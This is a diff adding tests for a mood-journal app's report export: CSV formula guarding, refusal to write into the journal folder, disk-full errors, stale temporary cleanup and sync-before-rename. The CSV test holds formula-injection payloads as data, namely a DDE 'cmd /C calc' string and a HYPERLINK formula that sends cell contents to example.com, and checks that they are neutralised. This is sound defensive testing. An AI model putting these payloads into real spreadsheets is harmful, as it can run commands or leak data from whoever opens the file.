@@ -10,7 +10,14 @@
 #include <glib/gstdio.h>
 #include <math.h>
 #include <pango/pangocairo.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/file.h>
+#include <sys/resource.h>
 #include <sys/wait.h>
+#include <unistd.h>
+#include <utime.h>
 
 #include "reframe-assignment-repository.h"
 #include "reframe-mood-repository.h"
@@ -23,7 +30,8 @@
 
 typedef struct
 {
-  char                    *dir;
+  char                    *root;
+  char                    *dir; /* the journal's folder */
   char                    *out_dir;
   ReframeStore            *store;
   ReframeTemplateRegistry *registry;
@@ -35,6 +43,9 @@ typedef struct
   char                    *phq;
 } Fixture;
 
+/* What fits on the "disk" of wrap_full_disk(): 100 KB unless a test says otherwise. */
+static gsize full_disk_limit = 100 * 1024;
+
 static const char special_note[] = "Tea, then \"rest\"\r\nline two,\nline 3 🙂 <b>not bold</b> *not em* | pipe";
 
 static void
@@ -43,8 +54,9 @@ fixture_set_up (Fixture      *f,
 {
   g_autoptr (GError) error = NULL;
 
-  f->dir = reframe_test_make_tmp_dir ();
-  f->out_dir = g_build_filename (f->dir, "out", NULL);
+  f->root = reframe_test_make_tmp_dir ();
+  f->dir = g_build_filename (f->root, "data", NULL);
+  f->out_dir = g_build_filename (f->root, "out", NULL);
   g_assert_cmpint (g_mkdir (f->out_dir, 0700), ==, 0);
   f->store = reframe_store_open (f->dir, &error);
   g_assert_no_error (error);
@@ -57,9 +69,12 @@ fixture_tear_down (Fixture      *f,
                    gconstpointer data)
 {
   _reframe_report_set_stream_wrapper (NULL);
+  _reframe_report_set_sync_func (NULL);
+  full_disk_limit = 100 * 1024;
   g_clear_object (&f->registry);
   g_clear_object (&f->store);
-  reframe_test_remove_tree (f->dir);
+  reframe_test_remove_tree (f->root);
+  g_free (f->root);
   g_free (f->dir);
   g_free (f->out_dir);
   g_free (f->private_entry);
@@ -825,6 +840,68 @@ test_csv (Fixture      *f,
   g_assert_true (found);
 }
 
+/* Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP's advice),
+ * quoted, so the text stays readable and nothing is run when the file is opened. */
+static void
+test_csv_formula_guard (Fixture      *f,
+                        gconstpointer data)
+{
+  const char *const notes[] = {
+    "=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")",
+    "+1 for today",
+    "-2 degrees outside",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tindented",
+    "\rcarriage",
+  };
+  const char *const feelings[] = { "=cmd|' /C calc'!A0", "calm", NULL };
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autoptr (GBytes) csv = NULL;
+  g_autoptr (GPtrArray) records = NULL;
+  g_autofree char *text = NULL;
+  guint            guarded = 0;
+
+  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
+    {
+      g_autofree char *time = g_strdup_printf ("2026-03-%02uT12:00:00Z", i + 1);
+
+      g_free (add_entry (f, time, REFRAME_MOOD_OKAY, notes[i], FALSE, i == 0 ? feelings : NULL));
+    }
+  g_free (add_entry (f, "2026-03-09T12:00:00Z", REFRAME_MOOD_OKAY, "A plain note - with a dash inside", FALSE, NULL));
+  report = build (f, options);
+  csv = reframe_report_to_csv (report);
+  text = bytes_to_string (csv);
+  records = parse_csv (text);
+  g_assert_cmpuint (records->len, ==, 1 + G_N_ELEMENTS (notes) + 1);
+  for (guint i = 1; i < records->len; i++)
+    {
+      GPtrArray  *record = g_ptr_array_index (records, i);
+      const char *note = g_ptr_array_index (record, 8);
+
+      /* No cell starts with what a spreadsheet reads as a formula. */
+      for (guint j = 0; j < record->len; j++)
+        {
+          const char *cell = g_ptr_array_index (record, j);
+
+          g_assert_null (strchr ("=+-@\t\r", cell[0] != '\0' ? cell[0] : 'x'));
+        }
+      if (i - 1 < G_N_ELEMENTS (notes))
+        {
+          /* The text is all there, after the apostrophe. */
+          g_assert_cmpint (note[0], ==, '\'');
+          g_assert_cmpstr (note + 1, ==, notes[i - 1]);
+          guarded++;
+        }
+      else
+        g_assert_cmpstr (note, ==, "A plain note - with a dash inside");
+    }
+  g_assert_cmpuint (guarded, ==, G_N_ELEMENTS (notes));
+  /* Feelings are the person's words too; guarded fields are quoted. */
+  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0; calm\","));
+  g_assert_nonnull (strstr (text, ",\"'+1 for today\","));
+}
+
 static void
 test_empty (Fixture      *f,
             gconstpointer data)
@@ -941,8 +1018,6 @@ GType full_disk_stream_get_type (void);
 
 G_DEFINE_TYPE (FullDiskStream, full_disk_stream, G_TYPE_OUTPUT_STREAM)
 
-#define FULL_DISK_LIMIT (100 * 1024)
-
 static gssize
 full_disk_stream_write (GOutputStream *stream,
                         const void    *buffer,
@@ -953,7 +1028,7 @@ full_disk_stream_write (GOutputStream *stream,
   FullDiskStream *self = (FullDiskStream *) stream;
   gssize          n;
 
-  if (self->written + count > FULL_DISK_LIMIT)
+  if (self->written + count > full_disk_limit)
     {
       g_set_error_literal (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE, "No space left on device");
       return -1;
@@ -1312,6 +1387,358 @@ test_cli (Fixture      *f,
     }
 }
 
+static char *
+dup_file_checksum (const char *path)
+{
+  g_autofree char *contents = NULL;
+  gsize            length = 0;
+
+  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
+  return g_compute_checksum_for_data (G_CHECKSUM_SHA256, (const guchar *) contents, length);
+}
+
+static void
+written_to_cb (GObject      *source,
+               GAsyncResult *result,
+               gpointer      user_data)
+{
+  GError **error = user_data;
+
+  g_assert_false (reframe_report_write_file_finish (result, error));
+  g_main_context_wakeup (NULL);
+}
+
+/* An export never lands on the journal, its -wal and -shm files, a backup or anything
+ * else in the journal's folder, however the folder is named; the window's save (async)
+ * is refused the same way. */
+static void
+test_refuses_journal (Fixture      *f,
+                      gconstpointer data)
+{
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autofree char *db = g_build_filename (f->dir, "reframe.db", NULL);
+  g_autofree char *backup = g_build_filename (f->dir, "reframe.db.v1.backup", NULL);
+  g_autofree char *sub = g_build_filename (f->dir, "sub", NULL);
+  g_autofree char *link = g_build_filename (f->out_dir, "journal-link", NULL);
+  g_autofree char *dotted = g_build_filename (f->out_dir, "..", "data", "reframe.db-wal", NULL);
+  g_autofree char *before = NULL;
+  g_autofree char *after = NULL;
+  g_autofree char *out = NULL;
+  const char      *targets[] = { "reframe.db", "reframe.db-wal", "reframe.db-shm", "reframe.db.v1.backup", "report.csv", "sub/report.md" };
+  g_autoptr (GError) error = NULL;
+
+  populate (f);
+  report = build (f, options);
+  g_assert_true (g_file_set_contents (backup, "backup", -1, NULL));
+  g_assert_cmpint (g_mkdir (sub, 0700), ==, 0);
+  g_assert_cmpint (symlink (f->dir, link), ==, 0);
+  /* Closed, so that the journal is one file whose bytes can be compared. */
+  g_clear_object (&f->store);
+  before = dup_file_checksum (db);
+
+  for (guint i = 0; i < G_N_ELEMENTS (targets); i++)
+    for (guint through_link = 0; through_link < 2; through_link++)
+      {
+        g_autofree char *path = g_build_filename (through_link ? link : f->dir, targets[i], NULL);
+        g_autoptr (GFile) file = g_file_new_for_path (path);
+        gboolean existed = g_file_test (path, G_FILE_TEST_EXISTS);
+
+        g_assert_false (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_CSV, file, NULL, NULL, NULL, &error));
+        g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
+        g_assert_nonnull (strstr (error->message, "journal"));
+        g_clear_error (&error);
+        g_assert_cmpint (g_file_test (path, G_FILE_TEST_EXISTS), ==, existed);
+      }
+  {
+    g_autoptr (GFile) file = g_file_new_for_path (dotted);
+
+    g_assert_false (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_CSV, file, NULL, NULL, NULL, &error));
+    g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
+    g_clear_error (&error);
+  }
+
+  /* The window saves on a worker thread: the same refusal. */
+  {
+    g_autoptr (GFile) file = g_file_new_for_path (db);
+
+    reframe_report_write_file_async (report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, written_to_cb, &error);
+    while (error == NULL)
+      g_main_context_iteration (NULL, TRUE);
+    g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_JOURNAL_FOLDER);
+    g_clear_error (&error);
+  }
+  g_assert_cmpstr (g_file_test (backup, G_FILE_TEST_IS_REGULAR) ? "backup" : NULL, ==, "backup");
+  after = dup_file_checksum (db);
+  g_assert_cmpstr (before, ==, after);
+
+  /* `reframe export` says so and fails; the journal still opens with every entry. */
+  g_assert_cmpint (run_export (f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "--format", "csv", "-o", db, NULL), ==, 1);
+  g_clear_pointer (&after, g_free);
+  after = dup_file_checksum (db);
+  g_assert_cmpstr (before, ==, after);
+  f->store = reframe_store_open (f->dir, &error);
+  g_assert_no_error (error);
+  g_clear_pointer (&report, reframe_report_unref);
+  report = build (f, options);
+  g_assert_cmpuint (reframe_report_get_entries (report)->len, ==, 15);
+}
+
+#define CLI_FILE_LIMIT (40 * 1024)
+
+/* Spawned `reframe export` may write @limit bytes a file, as if the disk ended there. */
+static void
+limit_file_size (gpointer user_data)
+{
+  struct rlimit limit = { GPOINTER_TO_SIZE (user_data), GPOINTER_TO_SIZE (user_data) };
+
+  /* EFBIG from write() instead of the signal that would kill the process. */
+  signal (SIGXFSZ, SIG_IGN);
+  setrlimit (RLIMIT_FSIZE, &limit);
+}
+
+/* A PDF that runs out of disk, wherever in the file: a clear error, the old file as it
+ * was, no temporary file left, in the calling thread, on a worker thread (the window)
+ * and in `reframe export`. */
+static void
+test_pdf_disk_full (Fixture      *f,
+                    gconstpointer data)
+{
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autofree char *path = g_build_filename (f->out_dir, "report.pdf", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  g_autoptr (GError) error = NULL;
+  g_autofree char *contents = NULL;
+  const gsize      limits[] = { 0, 1, 700, 4096, 20 * 1024 };
+  g_autoptr (GString) long_note = g_string_new (NULL);
+
+  populate (f);
+  /* Pages of text, so that the PDF is well over the command line's cap below. */
+  for (guint i = 0; i < 3000; i++)
+    g_string_append_printf (long_note, "Day %u went on; ", i * 7919 % 10007);
+  g_free (add_entry (f, "2026-03-12T22:00:00Z", REFRAME_MOOD_OKAY, long_note->str, FALSE, NULL));
+  report = build (f, options);
+  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
+  _reframe_report_set_stream_wrapper (wrap_full_disk);
+  for (guint i = 0; i < G_N_ELEMENTS (limits); i++)
+    {
+      full_disk_limit = limits[i];
+      g_assert_false (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, &error));
+      g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_DISK_FULL);
+      g_assert_true (g_str_has_prefix (error->message, "The disk is full"));
+      g_clear_error (&error);
+      g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
+      g_assert_cmpstr (contents, ==, "the old report");
+      g_clear_pointer (&contents, g_free);
+      g_assert_cmpuint (count_files (f->out_dir), ==, 1);
+    }
+
+  reframe_report_write_file_async (report, REFRAME_REPORT_FORMAT_PDF, file, NULL, NULL, NULL, written_to_cb, &error);
+  while (error == NULL)
+    g_main_context_iteration (NULL, TRUE);
+  g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_DISK_FULL);
+  g_clear_error (&error);
+  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
+  _reframe_report_set_stream_wrapper (NULL);
+
+  /* The command line, with files capped by the kernel: room for the journal's 32 KB
+   * shared-memory file, not for the whole PDF. */
+  {
+    g_autofree char *whole = g_build_filename (f->root, "whole.pdf", NULL);
+    g_autoptr (GFile) whole_file = g_file_new_for_path (whole);
+    g_autoptr (GFileInfo) info = NULL;
+
+    g_assert_true (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_PDF, whole_file, NULL, NULL, NULL, &error));
+    g_assert_no_error (error);
+    info = g_file_query_info (whole_file, G_FILE_ATTRIBUTE_STANDARD_SIZE, G_FILE_QUERY_INFO_NONE, NULL, &error);
+    g_assert_no_error (error);
+    g_assert_cmpint (g_file_info_get_size (info), >, CLI_FILE_LIMIT);
+  }
+  g_clear_object (&f->store);
+  {
+    const char      *argv[] = { g_getenv ("REFRAME_BIN"), "export", "--data-dir", f->dir, "--from", "2026-03-01", "--to", "2026-03-14", "-o", path, NULL };
+    g_autofree char *err = NULL;
+    int              wait_status = 0;
+
+    g_assert_true (g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_STDOUT_TO_DEV_NULL, limit_file_size, GSIZE_TO_POINTER (CLI_FILE_LIMIT), NULL, &err, &wait_status, &error));
+    g_assert_no_error (error);
+    g_assert_true (WIFEXITED (wait_status));
+    g_assert_cmpint (WEXITSTATUS (wait_status), ==, 1);
+    g_assert_nonnull (strstr (err, "report.pdf"));
+  }
+  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
+  g_assert_cmpstr (contents, ==, "the old report");
+  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
+}
+
+static void
+set_file_contents_aged (const char *path,
+                        const char *contents)
+{
+  struct utimbuf times;
+
+  g_assert_true (g_file_set_contents (path, contents, -1, NULL));
+  times.actime = times.modtime = time (NULL) - 3600;
+  g_assert_cmpint (g_utime (path, &times), ==, 0);
+}
+
+/* Hidden temporary files a killed export left behind (".name.XXXXXX", perhaps with
+ * private entries in them) go when the next export to that folder starts; one an export
+ * still writes (it holds a lock on it), and files that are not a report's, stay. */
+static void
+test_stale_temporaries (Fixture      *f,
+                        gconstpointer data)
+{
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autofree char *path = g_build_filename (f->out_dir, "report.md", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  const char *const stale[] = { ".report.md.1a2b3c", ".entries.csv.00ff00", ".report.pdf.abcdef", ".year.json.123456" };
+  const char *const kept[] = { ".report.pdf.backup", ".notes.txt.abcdef", ".report.pdf.1a2b3c4", ".report.pdf.12345", "report.pdf.123456", ".report.pdf.ABCDEF" };
+  g_autofree char  *busy = g_build_filename (f->out_dir, ".other.pdf.fedcba", NULL);
+  g_autofree char  *folder = g_build_filename (f->out_dir, ".folder.pdf.654321", NULL);
+  g_autoptr (GError) error = NULL;
+  g_autofree char *out = NULL;
+  int              busy_fd;
+
+  populate (f);
+  report = build (f, options);
+  for (guint i = 0; i < G_N_ELEMENTS (stale); i++)
+    {
+      g_autofree char *stale_path = g_build_filename (f->out_dir, stale[i], NULL);
+      set_file_contents_aged (stale_path, "secret private note");
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
+    {
+      g_autofree char *kept_path = g_build_filename (f->out_dir, kept[i], NULL);
+      set_file_contents_aged (kept_path, "mine");
+    }
+  /* An export in another process, still writing. */
+  set_file_contents_aged (busy, "half a report");
+  busy_fd = g_open (busy, O_RDONLY | O_CLOEXEC, 0);
+  g_assert_cmpint (busy_fd, >=, 0);
+  g_assert_cmpint (flock (busy_fd, LOCK_EX), ==, 0);
+  g_assert_cmpint (g_mkdir (folder, 0700), ==, 0);
+
+  g_assert_true (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  for (guint i = 0; i < G_N_ELEMENTS (stale); i++)
+    {
+      g_autofree char *stale_path = g_build_filename (f->out_dir, stale[i], NULL);
+      g_assert_false (g_file_test (stale_path, G_FILE_TEST_EXISTS));
+    }
+  for (guint i = 0; i < G_N_ELEMENTS (kept); i++)
+    {
+      g_autofree char *kept_path = g_build_filename (f->out_dir, kept[i], NULL);
+      g_assert_true (g_file_test (kept_path, G_FILE_TEST_IS_REGULAR));
+    }
+  g_assert_true (g_file_test (busy, G_FILE_TEST_IS_REGULAR));
+  g_assert_true (g_file_test (folder, G_FILE_TEST_IS_DIR));
+  g_assert_cmpuint (count_files (f->out_dir), ==, 1 + G_N_ELEMENTS (kept) + 2);
+  g_close (busy_fd, NULL);
+
+  /* `reframe export` cleans up after a killed one the same way. */
+  {
+    g_autofree char *stale_path = g_build_filename (f->out_dir, ".report.pdf.0a0b0c", NULL);
+
+    set_file_contents_aged (stale_path, "secret private note");
+    g_assert_cmpint (run_export (f, &out, "--from", "2026-03-01", "--to", "2026-03-14", "-o", path, NULL), ==, 0);
+    g_assert_false (g_file_test (stale_path, G_FILE_TEST_EXISTS));
+    g_assert_false (g_file_test (busy, G_FILE_TEST_EXISTS));
+  }
+}
+
+typedef struct
+{
+  char    *path;
+  char    *dest_contents;
+  gboolean fail;
+} SyncRecord;
+
+static GArray *sync_records;
+static char   *sync_dest;
+
+static int
+record_sync (int fd)
+{
+  g_autofree char *link = g_strdup_printf ("/proc/self/fd/%d", fd);
+  SyncRecord       record = { g_file_read_link (link, NULL), NULL, FALSE };
+
+  g_assert_nonnull (record.path);
+  g_file_get_contents (sync_dest, &record.dest_contents, NULL, NULL);
+  g_array_append_val (sync_records, record);
+  return fsync (fd);
+}
+
+static int
+fail_sync (int fd)
+{
+  errno = EIO;
+  return -1;
+}
+
+static void
+clear_sync_record (gpointer data)
+{
+  SyncRecord *record = data;
+
+  g_free (record->path);
+  g_free (record->dest_contents);
+}
+
+/* The new file reaches the disk before it takes the old one's place, and the folder
+ * after, so that a power cut leaves the old report or the whole new one, never an empty
+ * file. A file that cannot be flushed to the disk is not a saved report. */
+static void
+test_sync_before_rename (Fixture      *f,
+                         gconstpointer data)
+{
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autofree char *path = g_build_filename (f->out_dir, "report.md", NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  g_autoptr (GError) error = NULL;
+  g_autofree char *contents = NULL;
+  SyncRecord      *record;
+
+  populate (f);
+  report = build (f, options);
+  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
+  sync_records = g_array_new (FALSE, TRUE, sizeof (SyncRecord));
+  g_array_set_clear_func (sync_records, clear_sync_record);
+  sync_dest = path;
+  _reframe_report_set_sync_func (record_sync);
+  g_assert_true (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (sync_records->len, ==, 2);
+  record = &g_array_index (sync_records, SyncRecord, 0);
+  {
+    g_autofree char *name = g_path_get_basename (record->path);
+    g_autofree char *folder = g_path_get_dirname (record->path);
+
+    g_assert_true (g_str_has_prefix (name, ".report.md."));
+    g_assert_cmpstr (folder, ==, f->out_dir);
+  }
+  g_assert_cmpstr (record->dest_contents, ==, "the old report");
+  record = &g_array_index (sync_records, SyncRecord, 1);
+  g_assert_cmpstr (record->path, ==, f->out_dir);
+  g_assert_true (g_str_has_prefix (record->dest_contents, "# "));
+  g_clear_pointer (&sync_records, g_array_unref);
+
+  /* The file cannot be flushed: an error, the old report as it was, nothing left over. */
+  g_assert_true (g_file_set_contents (path, "the old report", -1, NULL));
+  _reframe_report_set_sync_func (fail_sync);
+  g_assert_false (reframe_report_write_file (report, REFRAME_REPORT_FORMAT_MARKDOWN, file, NULL, NULL, NULL, &error));
+  g_assert_error (error, REFRAME_REPORT_ERROR, REFRAME_REPORT_ERROR_FAILED);
+  g_assert_nonnull (strstr (error->message, "report.md"));
+  g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
+  g_assert_cmpstr (contents, ==, "the old report");
+  g_assert_cmpuint (count_files (f->out_dir), ==, 1);
+  _reframe_report_set_sync_func (NULL);
+  sync_dest = NULL;
+}
+
 int
 main (int    argc,
       char **argv)
@@ -1325,12 +1752,17 @@ main (int    argc,
   ADD ("summary", test_summary);
   ADD ("json", test_json);
   ADD ("csv", test_csv);
+  ADD ("csv-formula-guard", test_csv_formula_guard);
   ADD ("empty", test_empty);
   ADD ("bad-destinations", test_bad_destinations);
   ADD ("safe-writing", test_safe_writing);
   ADD ("async", test_async);
   ADD ("one-year", test_one_year);
   ADD ("cli", test_cli);
+  ADD ("refuses-journal", test_refuses_journal);
+  ADD ("pdf-disk-full", test_pdf_disk_full);
+  ADD ("stale-temporaries", test_stale_temporaries);
+  ADD ("sync-before-rename", test_sync_before_rename);
 #undef ADD
   status = g_test_run ();
 
